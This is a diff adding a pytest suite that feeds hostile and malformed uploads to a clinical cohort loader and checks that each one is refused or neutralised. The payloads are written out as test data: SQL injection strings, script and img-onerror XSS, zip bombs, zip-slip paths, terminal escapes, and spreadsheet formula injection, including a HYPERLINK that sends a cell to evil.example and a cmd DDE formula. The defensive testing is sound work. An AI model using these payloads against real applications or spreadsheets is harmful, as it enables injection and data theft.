@@ -1,0 +1,644 @@
+"""A corpus of hostile and malformed uploads, each with the outcome it must have (issue 5, "Hostile input").
+
+Every case is built here by code (no binary fixtures, no real patient data) and goes through the
+upload's own path, `ingest.load_sources`, as `ui/session.load_upload` calls it. A case is either
+- refused: the load is not ok, nothing is loaded, and an error (from the named source, when given)
+  says `refused`; or
+- loaded: the load is ok, and `check` holds (the value is kept as text, comes out escaped or
+  neutralised, DuckDB's tables are intact, ...).
+The limits come from the environment, as in the app; a case sets them low (`env`) to stay fast.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import struct
+import tempfile
+import time
+import unicodedata
+import zipfile
+from dataclasses import dataclass, field
+from typing import Callable
+
+import openpyxl
+import pandas as pd
+import pytest
+
+from icans_core import limits, report, store
+from icans_core.filters import CohortFilter, InterventionFilter
+from icans_core.ingest import LoadResult, load_paths, load_sources
+from icans_core.options import AnalysisOptions
+from icans_core.problems import format_problem
+from icans_core.readers import Source
+from icans_core.results import compute_results, write_results
+from icans_core.spreadsheet_safe import neutralise_formulas
+from tests.cohorts import VALID, copy_tables, csv_text, sources
+from ui.text import plain
+
+CATEGORIES = {"size", "archive", "rows", "formula", "html", "sql", "unicode", "workbook", "csv shape"}
+SQL_ID = "'; DROP TABLE patients; --"
+SCRIPT_ID = "<script>alert(1)</script>"
+
+
+# --- building uploads -----------------------------------------------------------------------------------
+
+def upload(tables: dict | None = None, **files: bytes | None) -> list[Source]:
+    """The cohort as CSV files (the valid one by default); `files` replace or add files by name."""
+    found = {s.name: s.data for s in sources(tables)}
+    found.update({name.replace("__", "."): data for name, data in files.items()})  # None: leave it out
+    return [Source(name, data) for name, data in found.items() if data is not None]
+
+
+def renamed(old: str, new: str, tables: dict | None = None, only: tuple[str, ...] | None = None) -> dict:
+    """The cohort with patient `old` called `new` (in every table, or `only` these)."""
+    out = copy_tables(tables)
+    for name, rows in out.items():
+        if only is None or name in only:
+            for row in rows[1:]:
+                row[0] = new if row[0] == old else row[0]
+    return out
+
+
+def with_group(group: str, tables: dict | None = None) -> dict:
+    out = copy_tables(tables)
+    out["patients"][1][2] = group
+    return out
+
+
+def zip_of(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", compression) as archive:
+        for name, data in members.items():
+            archive.writestr(name, data)
+    return buffer.getvalue()
+
+
+def cohort_zip(tables: dict | None = None) -> dict[str, bytes]:
+    return {s.name: s.data for s in sources(tables)}
+
+
+def workbook(tables: dict | None = None, edit: Callable | None = None) -> bytes:
+    """The cohort as one .xlsx (a sheet per table, every cell as text); `edit(book)` changes it first."""
+    book = openpyxl.Workbook()
+    book.remove(book.active)
+    for name, rows in (tables or VALID).items():
+        sheet = book.create_sheet(name)
+        for row in rows:
+            sheet.append(row)
+    if edit is not None:
+        edit(book)
+    buffer = io.BytesIO()
+    book.save(buffer)
+    return buffer.getvalue()
+
+
+def rezip(data: bytes, edits: dict[str, Callable[[bytes], bytes]], extra: dict[str, bytes] | None = None) -> bytes:
+    """The archive with some members rewritten and others added."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
+        for item in source.infolist():
+            content = source.read(item)
+            out.writestr(item.filename, edits.get(item.filename, lambda c: c)(content))
+        for name, content in (extra or {}).items():
+            out.writestr(name, content)
+    return buffer.getvalue()
+
+
+def set_flag_bits(data: bytes, flag: int) -> bytes:
+    """The archive with a general-purpose flag set on every member (local and central headers)."""
+    out = bytearray(data)
+    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
+        for found in re.finditer(re.escape(signature), data):
+            out[found.start() + offset] |= flag
+    return bytes(out)
+
+
+def lying_sizes(data: bytes, claimed: int) -> bytes:
+    """The archive with its central directory claiming `claimed` bytes for each member's content."""
+    out = bytearray(data)
+    for found in re.finditer(re.escape(b"PK\x01\x02"), data):
+        struct.pack_into("<I", out, found.start() + 24, claimed)
+    return bytes(out)
+
+
+def table_bytes(name: str, tables: dict | None = None, encoding: str = "utf-8", delimiter: str = ",") -> bytes:
+    return csv_text((tables or VALID)[name], delimiter=delimiter).encode(encoding)
+
+
+def many_rows(rows: int, row: bytes = b"P1,1,1\n", header: bytes = b"patient_id,day,crs_grade\n") -> bytes:
+    return header + row * rows
+
+
+def repetitive_labs(rows: int) -> bytes:
+    """A labs table that compresses about 8-fold, like real data (not a bomb)."""
+    body = "".join(f"P1,{i % 30},IL-6,{i % 1000},pg/mL\n" for i in range(rows))
+    return ("patient_id,day,analyte,value,unit\n" + body).encode()
+
+
+# --- checking what was loaded ---------------------------------------------------------------------------
+
+def connection(result: LoadResult):
+    con = store.connect()
+    store.load_cohort(con, result.cohort)
+    return con
+
+
+def exported(result: LoadResult) -> dict[str, list[dict]]:
+    """The results export of a loaded cohort, read back as a spreadsheet would: raw text cells."""
+    with tempfile.TemporaryDirectory() as out:
+        paths = write_results(compute_results(connection(result)), out)
+        return {p.stem: list(csv.DictReader(p.open(newline=""))) for p in paths}
+
+
+def exported_cells(result: LoadResult, file: str, column: str) -> set[str]:
+    return {row[column] for row in exported(result)[file]}
+
+
+def patients(result: LoadResult) -> pd.DataFrame:
+    return result.cohort.tables["patients"]
+
+
+def assert_tables_intact(result: LoadResult) -> None:
+    """Every table is in DuckDB with every row: no value was run as SQL."""
+    con = connection(result)
+    counts = store.table_counts(con).set_index("table")["rows"].to_dict()
+    assert counts == {name: len(frame) for name, frame in result.cohort.tables.items()}
+
+
+def check_sql_id(result: LoadResult) -> None:
+    assert_tables_intact(result)
+    con = connection(result)
+    assert SQL_ID in set(store.read_table(con, "patients")["patient_id"])
+    assert SQL_ID in set(store.toxicity_frame(con)["patient_id"])
+
+
+def check_sql_group(result: LoadResult) -> None:
+    assert_tables_intact(result)
+    con = connection(result)
+    group = patients(result)["group"].iloc[0]
+    assert store.select_patients(con, CohortFilter(groups=(group,))) == 1  # a value, matched as one
+
+
+def check_sql_filters(result: LoadResult) -> None:
+    # SQL in filter values (as a link's ?group=... would carry them): a value that matches nothing
+    con = connection(result)
+    hostile = ("' OR 1=1 --", "x'); DROP TABLE patients; --", "%", "*", "\x00")
+    for chosen in (CohortFilter(groups=hostile), CohortFilter(products=hostile), CohortFilter(diseases=hostile),
+                   CohortFilter(sexes=hostile), CohortFilter(intervention=InterventionFilter(names=hostile))):
+        assert store.select_patients(con, chosen) == 0, chosen
+    assert store.select_patients(con, CohortFilter()) == 2  # and the patients table is still whole
+    assert_tables_intact(result)
+
+
+def check_formula(value: str) -> Callable[[LoadResult], None]:
+    def check(result: LoadResult) -> None:
+        cells = exported_cells(result, "episodes", "patient_id") | exported_cells(result, "episodes", "group")
+        assert "'" + value in cells, cells
+        assert value not in cells
+    return check
+
+
+def check_kept(column: str, expected: str, table: str = "patients") -> Callable[[LoadResult], None]:
+    def check(result: LoadResult) -> None:
+        assert expected in set(result.cohort.tables[table][column]), result.cohort.tables[table][column].tolist()
+    return check
+
+
+def check_markdown_safe(column: str, expected: str) -> Callable[[LoadResult], None]:
+    def check(result: LoadResult) -> None:
+        check_kept(column, expected)(result)
+        shown = plain(expected)
+        # every ASCII punctuation is escaped: no link, image, HTML or emphasis can start
+        assert not re.search(r"(?<!\\)[!\[\]()<>*_`]", shown), shown
+    return check
+
+
+def check_report_escapes(result: LoadResult) -> None:
+    html = report.build_report(connection(result), AnalysisOptions(), [f"group: {SCRIPT_ID}"], "test")
+    assert not re.search(r"<(script|img|iframe)", html, re.IGNORECASE)  # every one arrived as text
+    for shown in ("&lt;script&gt;alert(1)&lt;/script&gt;", "&lt;img src=x onerror=alert(1)&gt;"):
+        assert shown in html
+
+
+def check_bom_header(result: LoadResult) -> None:
+    assert list(patients(result)["patient_id"]) == ["P1", "P2"]
+
+
+def check_no_warnings(result: LoadResult) -> None:
+    assert result.problems == [], result.report.to_string()
+
+
+def check_nfc(result: LoadResult) -> None:
+    ids = set(patients(result)["patient_id"]) | set(result.cohort.tables["toxicity"]["patient_id"])
+    assert ids == {"Zo\u00e9", "P2"}
+
+
+def check_vocabulary_lookalikes(result: LoadResult) -> None:
+    assert patients(result)["product"].iloc[0] == "axi-cel"
+    assert patients(result)["product_as_given"].iloc[0] == "\uff41\uff58\uff49\u2010\uff43\uff45\uff4c"
+    assert result.cohort.tables["labs"]["analyte"].iloc[0] == "IL-6"
+
+
+def check_warned(words: str, value: str | None = None) -> Callable[[LoadResult], None]:
+    def check(result: LoadResult) -> None:
+        found = [p for p in result.problems if p.severity == "warning" and words in p.problem]
+        assert found, result.report.to_string()
+        if value is not None:
+            assert value in {p.value for p in found}
+    return check
+
+
+def check_invisible_shown(result: LoadResult) -> None:
+    found = [p for p in result.errors if "Unknown patient" in p.problem]
+    assert [(p.row, p.value) for p in found] == [(2, "P\\u200d1"), (3, "P\\u200d1"), (4, "P\\u200d1")]
+
+
+def check_escaped_in_terminal(result: LoadResult) -> None:
+    [problem] = [p for p in result.problems if "Unknown product" in p.problem]
+    assert "\x1b" not in format_problem(problem) and "\\x1b" in format_problem(problem)
+
+
+def check_formula_cached(result: LoadResult) -> None:
+    assert patients(result)["last_followup_day"].iloc[0] == 100
+
+
+def check_value_length(column: str, length: int) -> Callable[[LoadResult], None]:
+    def check(result: LoadResult) -> None:
+        assert len(patients(result)[column].iloc[0]) == length
+    return check
+
+
+def check_multiline_cell(result: LoadResult) -> None:
+    assert patients(result)["death_cause"].iloc[0] == "line one\nline two"
+
+
+def check_decimal_comma(result: LoadResult) -> None:
+    assert patients(result)["age_years"].tolist() == [61.5, 70.0]
+
+
+def check_report_value_neutralised(result: LoadResult) -> None:
+    written = neutralise_formulas(result.report).to_csv(index=False)
+    assert "'=1+1" in written and ",=1+1" not in written
+
+
+def check_ignored_column(result: LoadResult) -> None:
+    assert_tables_intact(result)
+    check_warned("Column ignored")(result)
+
+
+# --- the corpus -------------------------------------------------------------------------------------------
+
+@dataclass(frozen=True)
+class Case:
+    id: str
+    category: str
+    build: Callable[[], list[Source]]
+    refused: str | None = None  # words an error must say; None: the cohort must load
+    source: str | None = None  # where that error must point
+    check: Callable[[LoadResult], None] | None = None
+    env: dict[str, str] = field(default_factory=dict)
+    max_seconds: float = 10.0
+
+
+def long_patients(cell: str, column: int = 2) -> dict:
+    out = copy_tables()
+    out["patients"][1][column] = cell
+    return out
+
+
+def multiline_patients(rows: int) -> bytes:
+    # every record holds a line break inside quotes: more line breaks than rows
+    header = "patient_id,product,last_followup_day,death_cause\n"
+    body = "".join(f'P{i},axi-cel,100,"line one\nline two"\n' for i in range(1, rows + 1))
+    return (header + body).encode()
+
+
+def merged_ids(book) -> None:
+    book["patients"].merge_cells("A2:A3")
+
+
+def cached_formula(data: bytes) -> bytes:
+    # a formula with the result a spreadsheet program saved beside it (openpyxl cannot write one)
+    return rezip(data, {"xl/worksheets/sheet1.xml": lambda xml: xml.replace(
+        b'<c r="H2" t="inlineStr"><is><t>100</t></is></c>', b'<c r="H2"><f>50+50</f><v>100</v></c>')})
+
+
+def uncached_formula(book) -> None:
+    book["patients"]["H2"] = "=50+50"  # no saved result: reads as an empty cell
+
+
+def far_cell(book) -> None:
+    # the sheet's dimension becomes A1:XFD1048576
+    book["patients"]["XFD1048576"] = "x"
+
+
+def script_sheet(book) -> None:
+    book.create_sheet("<img src=x onerror=alert(1)>")["A1"] = "x"  # a sheet name cannot hold "/"
+
+
+def wide_header(columns: int) -> bytes:
+    names = ["patient_id", "product", "last_followup_day"] + [f"extra_{i}" for i in range(columns - 3)]
+    return (",".join(names) + "\nP1,axi-cel,100\n").encode()
+
+
+def hostile_ids_everywhere(tables: dict | None = None) -> dict:
+    out = renamed("P1", SCRIPT_ID, tables)
+    out["patients"][2][2] = "<img src=x onerror=alert(1)>"
+    out["patients"][1][9] = "<iframe src=//evil.example>"  # death_cause
+    return out
+
+
+SEVERE_P2 = copy_tables()
+SEVERE_P2["toxicity"] += [["P2", "3", "", "3", "3"], ["P2", "6", "", "1", "9"]]  # both patients in episodes.csv
+
+
+def formula_case(id_: str, value: str, *, group: bool = False) -> Case:
+    tables = with_group(value, SEVERE_P2) if group else renamed("P2", value, SEVERE_P2)
+    shown = value.strip()  # cells are trimmed on reading: a leading tab goes, the formula stays
+    return Case(id_, "formula", lambda: upload(tables), check=check_formula(shown))
+
+
+CASES: list[Case] = [
+    # --- size -----------------------------------------------------------------------------------------
+    Case("upload over the size limit", "size",
+         lambda: upload(labs__csv=repetitive_labs(60_000)),
+         refused="more than the limit of 1.0 MB", env={limits.UPLOAD_ENV: "1"}),
+    Case("upload over the size limit only in total", "size",
+         lambda: upload(labs__csv=repetitive_labs(30_000), interventions__csv=b" " * 700_000),
+         refused=limits.UPLOAD_ENV, env={limits.UPLOAD_ENV: "1"}),
+    Case("zip over the expansion limit at an ordinary ratio", "size",
+         lambda: upload(**{"more__zip": zip_of({"labs.csv": repetitive_labs(300_000)})}),
+         refused="possible zip bomb", source="more.zip", env={limits.UPLOAD_ENV: "1"}),
+    # --- rows -----------------------------------------------------------------------------------------
+    Case("three million rows refused by the default row limit", "rows",
+         lambda: upload(toxicity__csv=many_rows(3_000_000)),
+         refused="more than 2,500,000 rows", source="toxicity.csv", max_seconds=5.0),
+    Case("rows over a lowered limit, counted through quoted line breaks", "rows",
+         lambda: upload(patients__csv=multiline_patients(1_500)),
+         refused=limits.ROWS_ENV, source="patients.csv", env={limits.ROWS_ENV: "1000"}),
+    Case("quoted line breaks are not rows", "rows",
+         lambda: upload(patients__csv=multiline_patients(800)),
+         check=check_multiline_cell, env={limits.ROWS_ENV: "1000"}),
+    Case("parquet over the row limit, refused from its footer", "rows",
+         lambda: upload(patients__parquet=_parquet(pd.DataFrame({"patient_id": [f"P{i}" for i in range(200)]})),
+                        patients__csv=None),
+         refused="more than 100 rows", source="patients.parquet", env={limits.ROWS_ENV: "100"}),
+    Case("workbook sheet over the row limit", "rows",
+         lambda: [Source("c.xlsx", workbook(_tall_labs(150)))],
+         refused="more than 100 rows", source="c.xlsx › labs", env={limits.ROWS_ENV: "100"}),
+    # --- archives -------------------------------------------------------------------------------------
+    Case("zip bomb", "archive",
+         lambda: [Source("cohort.zip", zip_of({**cohort_zip(), "labs.csv": b"0" * 20_000_000}))],
+         refused="possible zip bomb", source="cohort.zip"),
+    Case("zip inside a zip", "archive",
+         lambda: [Source("cohort.zip", zip_of({"inner.zip": zip_of(cohort_zip())}))],
+         refused="inside archives", source="cohort.zip › inner.zip"),
+    Case("workbook inside a zip", "archive",
+         lambda: [Source("cohort.zip", zip_of({"cohort.xlsx": workbook()}))],
+         refused="inside archives", source="cohort.zip › cohort.xlsx"),
+    Case("zip renamed as a csv inside a zip", "archive",
+         lambda: [Source("cohort.zip", zip_of({**cohort_zip(), "labs.csv": zip_of(cohort_zip())}))],
+         refused="not CSV text", source="cohort.zip › labs.csv"),
+    Case("zip of ten thousand files", "archive",
+         lambda: [Source("cohort.zip", zip_of({f"f{i}.txt": b"" for i in range(10_000)}))],
+         refused="holds 10,000 files", source="cohort.zip"),
+    Case("zip member compressed with bzip2", "archive",
+         lambda: [Source("cohort.zip", zip_of(cohort_zip(), zipfile.ZIP_BZIP2))],
+         refused="other than deflate", source="cohort.zip › patients.csv"),
+    Case("password-protected zip", "archive",
+         lambda: [Source("cohort.zip", set_flag_bits(zip_of(cohort_zip()), 0x1))],
+         refused="password-protected", source="cohort.zip › patients.csv"),
+    Case("zip member that lies about its size", "archive",
+         lambda: [Source("cohort.zip", lying_sizes(zip_of(cohort_zip()), 10))],
+         refused="could not be read", source="cohort.zip › patients.csv"),
+    Case("zip-slip member names", "archive",
+         lambda: [Source("cohort.zip", zip_of({"../../../etc/patients.csv": table_bytes("patients"),
+                                               "toxicity.csv": table_bytes("toxicity")}))],
+         refused="unsafe path (../../../etc/patients.csv)", source="cohort.zip"),
+    # --- formula injection (loaded; neutralised in the export) ----------------------------------------
+    formula_case("formula '=' in a patient id", "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"),
+    formula_case("formula '+' in a group label", "+IVIG", group=True),
+    formula_case("formula '-' in a patient id", "-2+3+cmd|' /C calc'!A0"),
+    formula_case("formula '@' in a group label", "@SUM(1+1)", group=True),
+    formula_case("formula after a tab in a patient id", "\t=1+1"),
+    Case("formula in a number column, and the report download", "formula",
+         lambda: upload(long_patients("=1+1", column=7)),
+         refused="Not a number", source="patients.csv", check=check_report_value_neutralised),
+    # --- HTML and script ------------------------------------------------------------------------------
+    Case("script in a patient id, image in a group, iframe in a cause of death", "html",
+         lambda: upload(hostile_ids_everywhere()), check=check_report_escapes),
+    Case("image markdown in a group label", "html",
+         lambda: upload(with_group("![x](http://evil.example/p.png)")),
+         check=check_markdown_safe("group", "![x](http://evil.example/p.png)")),
+    Case("html in a group label", "html",
+         lambda: upload(with_group("<img src=x onerror=alert(1)>")),
+         check=check_markdown_safe("group", "<img src=x onerror=alert(1)>")),
+    Case("HTML in a sheet name", "html",
+         lambda: [Source("c.xlsx", workbook(edit=script_sheet))],
+         check=check_warned("Sheet ignored")),
+    Case("html in a file name", "html",
+         lambda: upload(**{"<img src=x onerror=alert(1)>__csv": b"a\n1\n"}),
+         refused="Not a table of the data format", source="<img src=x onerror=alert(1)>.csv"),
+    # --- SQL-like strings -----------------------------------------------------------------------------
+    Case("SQL in a patient id", "sql", lambda: upload(renamed("P1", SQL_ID)), check=check_sql_id),
+    Case("SQL in a group label", "sql",
+         lambda: upload(with_group("Robert'); DROP TABLE labs;--")), check=check_sql_group),
+    Case("SQL in an analyte name", "sql",
+         lambda: upload(_set_cell("labs", 2, 2, "IL-6\" OR 1=1 --")), check=lambda r: assert_tables_intact(r)),
+    Case("SQL as a column name", "sql",
+         lambda: upload(_add_column("patients", "\"; DROP TABLE patients; --")), check=check_ignored_column),
+    Case("SQL in filter values", "sql", lambda: upload(), check=check_sql_filters),
+    # --- Unicode oddities -----------------------------------------------------------------------------
+    Case("UTF-8 BOM", "unicode",
+         lambda: upload(patients__csv=b"\xef\xbb\xbf" + table_bytes("patients")), check=check_bom_header),
+    Case("BOM with semicolons and decimal commas", "unicode",
+         lambda: upload(patients__csv=b"\xef\xbb\xbf" + table_bytes(
+             "patients", _set_cell("patients", 2, 4, "61,5"), delimiter=";")), check=check_decimal_comma),
+    Case("UTF-16 with a BOM", "unicode",
+         lambda: upload(patients__csv=table_bytes("patients", encoding="utf-16")),
+         refused="UTF-16", source="patients.csv"),
+    Case("UTF-16 without a BOM", "unicode",
+         lambda: upload(patients__csv=table_bytes("patients", encoding="utf-16-le")),
+         refused="NUL bytes", source="patients.csv"),
+    Case("NUL byte in a cell", "unicode",
+         lambda: upload(patients__csv=table_bytes("patients").replace(b"DLBCL", b"DL\x00BCL")),
+         refused="NUL bytes", source="patients.csv"),
+    Case("invalid UTF-8", "unicode",
+         lambda: upload(patients__csv=table_bytes("patients").replace(b"DLBCL", b"DL\xffBCL")),
+         refused="Not UTF-8", source="patients.csv"),
+    Case("UTF-8-encoded surrogate", "unicode",
+         lambda: upload(patients__csv=table_bytes("patients").replace(b"DLBCL", b"DL\xed\xa0\x80BCL")),
+         refused="Not UTF-8", source="patients.csv"),
+    Case("right-to-left override in a group label", "unicode",
+         lambda: upload(with_group("arm \u202eB-tnemtaert")), check=check_kept("group", "arm \u202eB-tnemtaert")),
+    Case("right-to-left mark in a patient id, everywhere", "unicode",
+         lambda: upload(renamed("P1", "P\u200f1")), check=check_kept("patient_id", "P\u200f1")),
+    Case("zero-width joiner in one table only", "unicode",
+         lambda: upload(renamed("P1", "P\u200d1", only=("toxicity",))),
+         refused="Unknown patient", source="toxicity.csv", check=check_invisible_shown),
+    Case("zero-width space and BOM inside header names", "unicode",
+         lambda: upload(patients__csv=table_bytes("patients").replace(
+             b"patient_id", "patient\u200b_id\ufeff".encode())),
+         check=check_no_warnings),
+    Case("NFD and NFC spellings of one patient id", "unicode",
+         lambda: upload(renamed("Zo\u00e9", unicodedata.normalize("NFD", "Zo\u00e9"),
+                                renamed("P1", "Zo\u00e9"), only=("toxicity",))), check=check_nfc),
+    Case("full-width and Unicode-hyphen vocabulary", "unicode",
+         lambda: upload(_set_cell("labs", 2, 2, "IL\u20106", _set_cell(
+             "patients", 2, 1, "\uff41\uff58\uff49\u2010\uff43\uff45\uff4c"))), check=check_vocabulary_lookalikes),
+    Case("Cyrillic lookalike product", "unicode",
+         lambda: upload(_set_cell("patients", 2, 1, "\u0430xi-cel")),
+         check=check_warned("Unknown product", "\u0430xi-cel")),
+    Case("terminal escape in a product", "unicode",
+         lambda: upload(_set_cell("patients", 2, 1, "\x1b[31maxi-cel\x1b[0m")), check=check_escaped_in_terminal),
+    Case("emoji in a group label", "unicode",
+         lambda: upload(with_group("\U0001f9ea arm \U0001f468\u200d\U0001f52c")),
+         check=check_kept("group", "\U0001f9ea arm \U0001f468\u200d\U0001f52c")),
+    # --- malformed workbooks --------------------------------------------------------------------------
+    Case("random bytes named .xlsx", "workbook",
+         lambda: [Source("c.xlsx", bytes(range(256)) * 8)], refused="Not an .xlsx", source="c.xlsx"),
+    Case("truncated workbook", "workbook",
+         lambda: [Source("c.xlsx", workbook()[:3000])], refused="damaged", source="c.xlsx"),
+    Case("workbook with no sheets", "workbook",
+         lambda: [Source("c.xlsx", rezip(workbook(), {"xl/workbook.xml": lambda xml: re.sub(
+             rb"<sheets>.*</sheets>", b"<sheets/>", xml)}))],
+         refused="required table 'patients' is missing"),
+    Case("workbook with wrong sheet names", "workbook",
+         lambda: [Source("c.xlsx", workbook({"Sheet1": VALID["patients"], "Sheet2": VALID["toxicity"]}))],
+         refused="required table 'toxicity' is missing"),
+    Case("zip of CSV files named .xlsx", "workbook",
+         lambda: [Source("c.xlsx", zip_of(cohort_zip()))], refused="could not be read", source="c.xlsx"),
+    Case("password-protected workbook (encrypted container)", "workbook",
+         lambda: [Source("c.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
+                         + "EncryptionInfo".encode("utf-16-le"))],
+         refused="password-protected", source="c.xlsx"),
+    Case("old BIFF .xls renamed .xlsx", "workbook",
+         lambda: [Source("c.xlsx", b"\x09\x08\x10\x00\x00\x06\x05\x00" + b"\x00" * 500)],
+         refused="Not an .xlsx", source="c.xlsx"),
+    Case("sheet dimensions claiming 16,384 columns and a million rows", "workbook",
+         lambda: [Source("c.xlsx", workbook(edit=far_cell))], check=check_no_warnings, max_seconds=8.0),
+    Case("header cell in column XFD", "workbook",
+         lambda: [Source("c.xlsx", workbook(edit=lambda book: book["patients"].__setitem__("XFD1", "x")))],
+         refused="16,384 columns", source="c.xlsx › patients"),
+    Case("shared-strings bomb in a workbook", "workbook",
+         lambda: [Source("c.xlsx", rezip(workbook(), {}, {"xl/sharedStrings.xml": b"<si><t>x</t></si>" * 2_000_000}))],
+         refused="possible zip bomb", source="c.xlsx"),
+    Case("macro project inside a workbook", "workbook",
+         lambda: [Source("c.xlsx", rezip(workbook(), {}, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 1000}))],
+         check=check_no_warnings),
+    Case("merged patient_id cells", "workbook",
+         lambda: [Source("c.xlsx", workbook(edit=merged_ids))],
+         refused="Required: this cell is empty", source="c.xlsx › patients"),
+    Case("formula cell with its saved result", "workbook",
+         lambda: [Source("c.xlsx", cached_formula(workbook()))], check=check_formula_cached),
+    Case("formula cell without a saved result", "workbook",
+         lambda: [Source("c.xlsx", workbook(edit=uncached_formula))],
+         refused="Required: this cell is empty", source="c.xlsx › patients"),
+    # --- CSV shape ------------------------------------------------------------------------------------
+    Case("empty file", "csv shape", lambda: upload(patients__csv=b""), refused="empty", source="patients.csv"),
+    Case("header-only cohort", "csv shape",
+         lambda: upload({"patients": VALID["patients"][:1], "toxicity": VALID["toxicity"][:1]}),
+         refused="no rows", source="patients.csv"),
+    Case("first row blank", "csv shape",
+         lambda: upload(patients__csv=b",,\n" + table_bytes("patients")), refused="must be the header",
+         source="patients.csv"),
+    Case("duplicate header, differing only in case and spaces", "csv shape",
+         lambda: upload(_add_column("patients", " Patient_ID ")), refused="appears more than once",
+         source="patients.csv"),
+    Case("ragged row with extra values", "csv shape",
+         lambda: upload(patients__csv=table_bytes("patients") + b"P3,axi-cel,,,,,,100,,,surplus\n"),
+         refused="fields but the header has", source="patients.csv"),
+    Case("ragged short row", "csv shape",
+         lambda: upload(patients__csv=table_bytes("patients") + b"P3,axi-cel\n"),
+         refused="Required: this cell is empty", source="patients.csv"),
+    Case("cell of 200,000 characters", "csv shape",
+         lambda: upload(long_patients("x" * 200_000)), refused="longer than 131,072 characters",
+         source="patients.csv"),
+    Case("group label of 100,000 characters", "csv shape",
+         lambda: upload(long_patients("x" * 100_000)), check=check_value_length("group", 100_000)),
+    Case("deeply nested quoting", "csv shape",
+         lambda: upload(long_patients('"' * 5_000)), check=check_value_length("group", 5_000)),
+    Case("quote never closed", "csv shape",
+         lambda: upload(patients__csv=table_bytes("patients").replace(b"axi-cel", b'"axi-cel')),
+         refused="Required: this cell is empty", source="patients.csv"),
+    Case("old Mac line endings (CR only)", "csv shape",
+         lambda: upload(patients__csv=table_bytes("patients").replace(b"\n", b"\r")), check=check_no_warnings),
+    Case("1,500 columns", "csv shape",
+         lambda: upload(patients__csv=wide_header(1_500)), refused="1,500 columns", source="patients.csv"),
+    Case("infinite and huge numbers", "csv shape",
+         lambda: upload(_set_cell("patients", 2, 7, "1e999", _set_cell("patients", 3, 7, "-inf"))),
+         refused="Not a number", source="patients.csv"),
+]
+
+
+def _parquet(frame: pd.DataFrame) -> bytes:
+    buffer = io.BytesIO()
+    frame.to_parquet(buffer)
+    return buffer.getvalue()
+
+
+def _tall_labs(rows: int) -> dict:
+    out = copy_tables()
+    out["labs"] += [["P1", str(day), "IL-6", "1", "pg/mL", ""] for day in range(rows)]
+    return out
+
+
+def _set_cell(table: str, row: int, column: int, value: str, tables: dict | None = None) -> dict:
+    out = copy_tables(tables)
+    out[table][row - 1][column] = value
+    return out
+
+
+def _add_column(table: str, name: str) -> dict:
+    out = copy_tables()
+    out[table][0].append(name)
+    for row in out[table][1:]:
+        row.append("x")
+    return out
+
+
+# --- the runner -------------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
+def test_hostile_input(case: Case, monkeypatch):
+    for name in (limits.UPLOAD_ENV, limits.ROWS_ENV):
+        monkeypatch.delenv(name, raising=False)
+    for name, value in case.env.items():
+        monkeypatch.setenv(name, value)
+    uploaded = case.build()
+    start = time.perf_counter()
+    result = load_sources(uploaded)  # must not raise
+    elapsed = time.perf_counter() - start
+    assert elapsed < case.max_seconds, f"{elapsed:.1f} s"
+    if case.refused is not None:
+        assert not result.ok and result.cohort is None  # nothing loaded
+        assert any(case.refused in p.problem and (case.source is None or p.source == case.source)
+                   for p in result.errors), result.report.to_string()
+    else:
+        assert result.ok, result.report.to_string()
+    if case.check is not None:
+        case.check(result)
+
+
+def test_the_corpus_covers_every_category_of_the_issue():
+    assert len(CASES) >= 40
+    assert len({c.id for c in CASES}) == len(CASES)
+    assert {c.category for c in CASES} == CATEGORIES
+
+
+def test_a_malformed_limit_setting_fails_closed(monkeypatch):
+    monkeypatch.setenv(limits.ROWS_ENV, "lots")
+    with pytest.raises(ValueError, match=limits.ROWS_ENV):
+        load_sources(upload())
+
+
+def test_files_on_disk_are_not_held_to_the_upload_size(monkeypatch, tmp_path):
+    # the command line and the deployment cohort read the server's own files; rows still count
+    monkeypatch.setenv(limits.UPLOAD_ENV, "1")
+    for source in upload(labs__csv=repetitive_labs(60_000)):
+        (tmp_path / source.name).write_bytes(source.data)
+    assert load_paths([tmp_path]).ok
+    monkeypatch.setenv(limits.ROWS_ENV, "1000")
+    assert any("more than 1,000 rows" in p.problem for p in load_paths([tmp_path]).errors)
